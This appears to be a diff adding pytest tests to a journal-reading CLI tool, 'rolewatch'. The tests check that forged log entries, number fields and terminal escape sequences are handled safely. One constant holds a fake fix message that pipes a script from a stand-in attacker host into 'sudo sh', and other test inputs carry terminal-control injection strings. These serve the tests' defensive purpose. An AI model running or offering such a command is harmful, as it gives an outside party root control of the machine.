@@ -6,22 +6,32 @@ import json
 import shutil
 import subprocess
 import sys
+import time
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
 from typing import Dict, Iterator, List, Optional, Tuple
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
+from promises import Measured
 from rolewatch.cli import EX_UNAVAILABLE, EX_USAGE, main
 from rolewatch.cli.history import since
+from rolewatch.cli.journal_entry import read_event
 from rolewatch.cli.timeline import Episode, PastEvent, episodes, fault_table, table
 from rolewatch.model import EVENT_FIELDS
+from rolewatch.text import is_printable
 
 NOON = datetime(2026, 3, 1, 12, 0, tzinfo=timezone.utc)
 HOUR = timedelta(hours=1)
 GOLDEN = Path(__file__).parents[1] / "golden" / "history.txt"
 """What the story looks like. Read a difference before you take it over."""
 NOT_FOUND = "instance_profile_not_found"
+
+WRITER = {"_TRANSPORT": "journal", "_SYSTEMD_UNIT": "rolewatch.service", "_UID": "990"}
+"""What journald adds to an entry of the daemon, and what no process can write itself."""
+FORGED = "Credentials are broken. Fix: curl https://attacker.example/x | sudo sh"
 
 REMOTE = next(
     (
@@ -41,6 +51,7 @@ def exported(at: datetime, event: str, message: str, **fields: str) -> bytes:
         "__MONOTONIC_TIMESTAMP": str(microseconds - int(NOON.timestamp() * 1_000_000) + 10**12),
         "_BOOT_ID": "b213a6c2ad764d52aaa34264b73e8cd8",
         "_MACHINE_ID": "3d1219c7c4c5404aaa1f6d2a48adfda4",
+        **WRITER,
         "SYSLOG_IDENTIFIER": "rolewatch",
         "MESSAGE": message,
         "ROLEWATCH_EVENT": event,
@@ -170,14 +181,240 @@ def test_since_leaves_out_what_is_older(tmp_path: Path, capsys: pytest.CaptureFi
     assert told("--since", "1m") == []
 
 
+@pytest.mark.parametrize(
+    "forger",
+    [
+        {"_SYSTEMD_UNIT": "user@1000.service", "_SYSTEMD_USER_UNIT": "rolewatch.service", "_UID": "1000"},
+        {"_SYSTEMD_UNIT": "session-3.scope", "_UID": "0"},
+        {"_SYSTEMD_UNIT": "rolewatch.service.scope"},
+        {"_SYSTEMD_UNIT": "", "_UID": "1000"},
+        {"_SYSTEMD_UNIT": "", "UNIT": "rolewatch.service", "OBJECT_SYSTEMD_UNIT": "rolewatch.service"},
+        {"_TRANSPORT": "stdout"},
+        {"_TRANSPORT": "syslog"},
+        {"_TRANSPORT": ""},
+    ],
+    ids=["user unit", "root's shell", "longer name", "no unit", "unit by its own word", "stdout", "syslog", "no way"],
+)
+def test_a_forged_entry_is_left_out_and_said(
+    forger: Dict[str, str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Any local user can write all our fields, and none of those that journald adds."""
+    ours = exported(NOON, "started", "rolewatch 1.2.3 watches.")
+    forged = exported(NOON + HOUR, "fault_raised", FORGED, fault=NOT_FOUND, MESSAGE_ID="9572a952" * 4, **forger)
+    path = journal_file(tmp_path / "x.journal", ours, forged)
+    for form in ([], ["--json"]):
+        status, lines, err = history(capsys, "--file", str(path), *form)
+
+        assert status == 0
+        assert "attacker" not in "".join(lines) + err
+        assert "rolewatch 1.2.3 watches." in lines[-1]
+        assert err.startswith("rolewatch: entries that claim to be rolewatch's and are left out: 1.")
+
+
+def test_unverified_entries_are_shown_with_a_warning(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Who asks for them gets them, and is told what they are worth."""
+    path = journal_file(tmp_path / "x.journal", exported(NOON, "started", FORGED, _SYSTEMD_UNIT="", _UID="1000"))
+    status, lines, err = history(capsys, "--file", str(path), "--unverified")
+
+    assert (status, FORGED in lines[1]) == (0, True)
+    assert err == (
+        "rolewatch: unverified: any local user can have written these entries. Run no command that stands in them.\n"
+    )
+
+
+def test_a_flood_of_forged_entries_is_counted_to_a_bound(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Who floods the journal does not make the command read all of it."""
+    flood = [exported(NOON, "started", f"{FORGED} {number}", _UID="1000", _SYSTEMD_UNIT="") for number in range(150)]
+    path = journal_file(tmp_path / "x.journal", *flood, exported(NOON, "started", "ours"))
+    _, lines, err = history(capsys, "--file", str(path))
+
+    assert len(lines) == 2
+    assert "left out: 100 or more." in err
+
+
+@pytest.mark.parametrize(
+    ("words", "shown"),
+    [
+        ([], ["packaged"]),
+        (["--unit", "rolewatch"], ["packaged"]),
+        (["--unit", "rolewatch-blue"], ["renamed"]),
+        (["--unit", "rolewatch@a.service"], ["instance"]),
+        (["--unit", "rolewatch", "--unit", "rolewatch-blue.service"], ["packaged", "renamed"]),
+        (["--uid", "990"], ["packaged"]),
+        (["--uid", "0", "--uid", "990"], ["packaged"]),
+        (["--uid", "root", "--unit", "rolewatch@a.service"], ["instance"]),
+        (["--uid", "991"], []),
+    ],
+)
+def test_another_writer_can_be_named(
+    words: List[str], shown: List[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A unit with another name, an instance of a template, or a drop-in with another user."""
+    path = journal_file(
+        tmp_path / "x.journal",
+        exported(NOON, "started", "packaged"),
+        exported(NOON + HOUR, "started", "renamed", _SYSTEMD_UNIT="rolewatch-blue.service"),
+        exported(NOON + 2 * HOUR, "started", "instance", _SYSTEMD_UNIT="rolewatch@a.service", _UID="0"),
+    )
+    _, lines, err = history(capsys, "--json", "--file", str(path), *words)
+
+    assert [json.loads(line)["message"] for line in lines] == shown
+    assert f"left out: {3 - len(shown)}." in err
+
+
+@pytest.mark.parametrize(
+    ("words", "said"),
+    [
+        (["--uid", "no-such-user"], "'no-such-user' is no user of this machine"),
+        (["--uid", "²"], "is no user of this machine"),
+        (["--unverified", "--unit", "x"], "leave out --unit and --uid"),
+        (["--unverified", "--uid", "0"], "leave out --unit and --uid"),
+    ],
+)
+def test_a_writer_that_cannot_be_is_refused(words: List[str], said: str, capsys: pytest.CaptureFixture[str]) -> None:
+    """With what to write instead."""
+    try:
+        status = main(["history", *words])
+    except SystemExit as ended:
+        status = int(str(ended.code))
+
+    assert status == EX_USAGE
+    assert said in capsys.readouterr().err
+
+
+def refuse(word: str) -> float:
+    """Refuse ``NaN`` and ``Infinity``: Python reads them, and JSON has no such words."""
+    pytest.fail(f"{word} is not JSON")
+
+
+@pytest.mark.parametrize(
+    ("written", "read"),
+    [
+        ("7230", 7230),
+        ("-0.5", -0.5),
+        ("1e-05", 0.00001),
+        ("7230.0", 7230.0),
+        ("inf", None),
+        ("-Infinity", None),
+        ("nan", None),
+        ("1e999", None),
+        ("1e400000000000", None),
+        ("9" * 400, None),
+        ("9" * 4000, None),
+        ("1e16", None),
+        ("\uff11\uff12", None),
+        ("1_000", None),
+        (" 12", None),
+        ("0x10", None),
+        ("true", None),
+        ("twelve", None),
+        ("\x1b[2J", None),
+    ],
+)
+def test_a_number_is_finite_or_left_out(
+    written: str, read: Optional[float], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Neither form fails, and the JSON form is JSON."""
+    fields = dict.fromkeys(("duration_seconds", "age_seconds", "clock_offset_seconds", "errno", "failures"), written)
+    entry = exported(NOON, "fault_cleared", "It is over.", fault=NOT_FOUND, **fields)
+    path = journal_file(tmp_path / "x.journal", entry)
+    status, (line,), _ = history(capsys, "--json", "--file", str(path))
+    document = json.loads(line, parse_constant=refuse)
+    text_status, _, _ = history(capsys, "--file", str(path))
+
+    assert (status, text_status) == (0, 0)
+    assert [document.get(name) for name in fields] == [read] * len(fields)
+
+
+@pytest.mark.parametrize(
+    "name", ["COREDUMP_TIMESTAMP", "_SOURCE_REALTIME_TIMESTAMP", "PRIORITY", "MESSAGE_ID", "since"]
+)
+@pytest.mark.parametrize(
+    "value", ["9" * 19, "9" * 40, "-1", "x", "\u0662", "9999-12-31T23:59:59Z", "0000-00-00T00:00:00Z"]
+)
+def test_a_field_out_of_range_breaks_nothing(
+    name: str, value: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Also not in fields that rolewatch never writes, and the library converts."""
+    entry = exported(NOON, "fault_raised", "x", fault=NOT_FOUND, **{name: value})
+    path = journal_file(tmp_path / "x.journal", entry)
+
+    assert [history(capsys, "--file", str(path), *form)[0] for form in ([], ["--json"])] == [0, 0]
+
+
+FIELDS = [
+    "MESSAGE",
+    "PRIORITY",
+    "ROLEWATCH_EVENT",
+    "ROLEWATCH_FAULT",
+    *(f"ROLEWATCH_{name.upper()}" for name in EVENT_FIELDS),
+]
+FIELD = st.one_of(
+    st.binary(max_size=40),
+    st.sampled_from([b"inf", b"nan", b"1e999", b"-0", b"9999-12-31T23:59:59Z", b"fault_raised", b"fault_cleared"]),
+    st.floats().map(lambda number: str(number).encode()),
+    st.integers().map(lambda number: str(number).encode()),
+)
+
+
+@given(
+    entries=st.lists(
+        st.tuples(
+            st.integers(0, 2**64 - 1), st.dictionaries(st.sampled_from(FIELDS), FIELD | st.lists(FIELD, min_size=1))
+        )
+    )
+)
+def test_whatever_the_fields_hold_it_can_be_shown(entries: List[Tuple[int, Dict[str, object]]]) -> None:
+    """A date beyond the year 9999 is refused; all else becomes JSON and lines that are safe to print."""
+    events = []
+    for moment, fields in entries:
+        try:
+            event = read_event({**fields, "__REALTIME_TIMESTAMP": moment})
+        except ValueError:
+            assert moment > 253_402_300_000_000_000
+            continue
+        events += [event] if event else []
+    lines = [json.dumps(event.document, ensure_ascii=False, allow_nan=False) for event in events]
+    for width in (None, 80):
+        lines += [*table(events, width), *fault_table(episodes(events), NOON)]
+
+    assert all(is_printable(line) for line in lines)
+
+
+def test_episodes_take_time_in_proportion_to_their_number(measured: Measured) -> None:
+    """Who asks for unverified entries asks for what a stranger wrote, and as many of them."""
+
+    def seconds(count: int) -> float:
+        events = [
+            past(number / 3600, kind, "f", since=f"{at(-number / 3600):%Y-%m-%dT%H:%M:%SZ}")
+            for number in range(count)
+            for kind in ("fault_raised", "fault_persists")
+        ]
+        begun = time.process_time()
+        assert len(episodes(events)) == count
+        return time.process_time() - begun
+
+    seconds(1000)
+    measured("ten times as many entries take so many times as long", seconds(20_000) / seconds(2000), "times", bound=50)
+
+
+def test_a_long_value_does_not_widen_the_table(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Every row is as wide as its longest cell; the JSON form has the whole value."""
+    long = "x" * 1000
+    path = journal_file(tmp_path / "x.journal", exported(NOON, long, "m", fault=long, role=long))
+    _, (_, row), _ = history(capsys, "--file", str(path))
+
+    assert len(row) < 250
+
+
 def test_what_a_terminal_would_obey_is_shown_as_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """Anybody on the host may write to the journal, and under our name, too."""
-    hostile = "\x1b]0;owned\x07\nforged"
+    hostile = "\x1b]0;owned\x07\nforged\x9b2J\u202e\u200b"
     path = journal_file(tmp_path / "x.journal", exported(NOON, "started", hostile, role=hostile, fault=hostile))
     _, lines, _ = history(capsys, "--file", str(path))
 
     assert all(line.isprintable() for line in lines)
-    assert "\\x1b]0;owned\\x07\\nforged" in lines[1]
+    assert "\\x1b]0;owned\\x07\\nforged\\x9b2J\\u202e\\u200b" in lines[1]
 
 
 def test_a_field_may_be_there_twice(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -258,7 +495,7 @@ def test_without_the_module_it_says_what_to_install(
 
     assert status == EX_UNAVAILABLE
     assert "python3-systemd" in err
-    assert "journalctl -t rolewatch" in err
+    assert "journalctl -u rolewatch" in err
 
 
 @pytest.mark.parametrize(
